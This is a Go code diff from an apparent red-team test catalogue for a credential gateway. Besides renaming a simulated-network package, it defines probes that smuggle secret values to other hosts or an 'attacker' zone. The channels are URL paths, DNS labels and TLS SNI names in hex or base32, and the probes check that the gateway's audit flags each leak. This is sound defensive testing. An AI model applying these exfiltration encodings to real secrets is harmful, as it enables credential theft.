@@ -7,7 +7,7 @@ import (
 	"strings"
 
 	"github.com/custody-project/custody/audit"
-	"github.com/custody-project/custody/redteam/world"
+	"github.com/custody-project/custody/redteam/simnet"
 )
 
 // secrets are the probes of credentials, each in a step of its own, as the first value that turns up
@@ -33,8 +33,8 @@ func (c *catalogue) secretive(p Probe) {
 	c.add(p)
 }
 
-// spilled reports where outside a value was seen that the probe is about, or what the script put into its
-// place, if that server is not one that may be told it.
+// spilled reports where outside the probe's value, or its stand-in, was observed at a server that must not
+// receive it.
 func spilled(t *trial, p Probe, said report) string {
 	for _, s := range p.about {
 		if where := t.seenOutside(s, func(text string) string { return shown([]byte(text), t.values[s.name]) }); where != "" {
@@ -86,7 +86,7 @@ func (t *trial) seenOutside(s secret, find func(text string) string) string {
 func arrives(s secret) outer {
 	return func(t *trial, p Probe, said report) string {
 		for _, r := range t.world.Requests() {
-			if strings.Contains(r.URI, p.token) && slices.Contains(s.homes, r.SNI) && slices.Equal(r.Header[world.KeyHeader], []string{t.values[s.name]}) {
+			if strings.Contains(r.URI, p.token) && slices.Contains(s.homes, r.SNI) && slices.Equal(r.Header[simnet.KeyHeader], []string{t.values[s.name]}) {
 				return spilled(t, p, report{})
 			}
 		}
@@ -103,11 +103,11 @@ func (c *catalogue) secretControls() {
 		return allowedFlow(b, r) && r.HTTP != nil && r.HTTP.Credential == b.binds[0].name
 	}
 	add("credential", "the gateway puts a credential in the place of its placeholder",
-		tlsTo(world.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
+		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
 	add("credential-added", "the gateway adds a credential to a request without one",
-		tlsTo(world.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
+		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
 	add("reflected", "without the mask a credential does come back in an answer",
-		tlsTo(world.Fronted, "GET /v1/reflect?"+c.token()+" HTTP/1.1\r\nHost: "+world.Fronted+"\r\nConnection: close\r\n\r\n"), used,
+		tlsTo(simnet.Fronted, "GET /v1/reflect?"+c.token()+" HTTP/1.1\r\nHost: "+simnet.Fronted+"\r\nConnection: close\r\n\r\n"), used,
 		func(t *trial, _ Probe, said report) string {
 			if !bytes.Contains(said.Answer, []byte(t.values[shownKey.name])) {
 				return "the answer does not have it: " + said.Stage + " " + said.Error
@@ -116,7 +116,7 @@ func (c *catalogue) secretControls() {
 		}, shownKey)
 	s := c.env()
 	add("in-scope", "a value that goes where its hosts let it arrives",
-		tlsTo(world.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nX-Data: {{"+strings.ToUpper(s.name)+"|base64}}\r\nConnection: close\r\n\r\n"), allowedFlow,
+		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nX-Data: {{"+strings.ToUpper(s.name)+"|base64}}\r\nConnection: close\r\n\r\n"), allowedFlow,
 		func(t *trial, p Probe, said report) string {
 			for _, r := range t.world.Requests() {
 				if strings.Contains(r.URI, p.token) && shown([]byte(fmt.Sprint(r.Header)), t.values[p.binds[0].name]) != "" {
@@ -134,7 +134,7 @@ func tlsTo(name, text string) *task {
 
 // leaks are the probes of a value that the step has, on its way to a host that it is not for.
 func (c *catalogue) leaks() {
-	other := "other." + world.Wild
+	other := "other." + simnet.Wild
 	for _, l := range []struct{ id, title, text string }{
 		{"url", "in a path, with percent escapes", "GET /x/{{V|url}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 		{"url-all", "in a path, every byte escaped", "GET /x/{{V|urlall}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
@@ -174,7 +174,7 @@ func (c *catalogue) leaks() {
 	} {
 		s := c.env()
 		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value to another host in the clear: " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
-			task: &task{Do: "talk", Name: world.Plain, Port: 80, Send: once(c.templated(l.text, world.Plain, s))}})
+			task: &task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(c.templated(l.text, simnet.Plain, s))}})
 	}
 	c.namedLeaks()
 }
@@ -182,24 +182,24 @@ func (c *catalogue) leaks() {
 // namedLeaks are of values in names.
 func (c *catalogue) namedLeaks() {
 	for _, l := range []struct{ id, title, code, zone string }{
-		{"dns-gateway", "in the labels of a name that goes through the gateway, in base32", "labels32", world.Wild},
-		{"dns-attacker", "in the labels of the attacker's name, in hex", "labels16", world.Attacker},
-		{"dns-direct", "in the labels of a name that is allowed directly, in hex", "labels16", world.RebindDirect},
-		{"dns-direct32", "in the labels of a name that is allowed directly, in base32", "labels32", world.RebindDirect},
+		{"dns-gateway", "in the labels of a name that goes through the gateway, in base32", "labels32", simnet.Wild},
+		{"dns-attacker", "in the labels of the attacker's name, in hex", "labels16", simnet.Attacker},
+		{"dns-direct", "in the labels of a name that is allowed directly, in hex", "labels16", simnet.RebindDirect},
+		{"dns-direct32", "in the labels of a name that is allowed directly, in base32", "labels32", simnet.RebindDirect},
 	} {
 		s := c.env()
 		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-in-dns"),
 			task: &task{Do: "talk", Name: c.templated("{{V|"+l.code+"}}.", "", s) + l.zone, Port: 443, Send: once("x")}})
 	}
 	for _, l := range []struct{ id, title, code, zone, rule string }{
-		{"sni-hex", "in the TLS name of a connection that is not opened, in hex", "labels16", world.Rebind, "secret-in-flow"},
-		{"sni-base32", "in the TLS name of a connection that is opened, in base32", "labels32", world.Wild, "secret-in-flow"},
-		{"sni-other", "in a TLS name of the attacker's, at an allowed host, in hex", "labels16", world.Attacker, "secret-in-flow"},
+		{"sni-hex", "in the TLS name of a connection that is not opened, in hex", "labels16", simnet.Rebind, "secret-in-flow"},
+		{"sni-base32", "in the TLS name of a connection that is opened, in base32", "labels32", simnet.Wild, "secret-in-flow"},
+		{"sni-other", "in a TLS name of the attacker's, at an allowed host, in hex", "labels16", simnet.Attacker, "secret-in-flow"},
 	} {
 		s := c.env()
-		at := "public-" + c.token() + "." + world.Rebind
-		if l.zone == world.Wild {
-			at = "w" + c.token() + "." + world.Wild
+		at := "public-" + c.token() + "." + simnet.Rebind
+		if l.zone == simnet.Wild {
+			at = "w" + c.token() + "." + simnet.Wild
 		}
 		t := tlsTo(at, "x")
 		t.TLS.SNI = c.templated("{{V|"+l.code+"}}.", "", s) + l.zone
@@ -209,7 +209,7 @@ func (c *catalogue) namedLeaks() {
 
 // templated fills a text, and puts the name of a secret's variable where the script puts its value.
 func (c *catalogue) templated(text, host string, s secret) string {
-	return strings.ReplaceAll(c.fill(text, host, world.Fronted), "{{V|", "{{"+strings.ToUpper(s.name)+"|")
+	return strings.ReplaceAll(c.fill(text, host, simnet.Fronted), "{{V|", "{{"+strings.ToUpper(s.name)+"|")
 }
 
 func flaggedAs(rules ...audit.Rule) evidence {
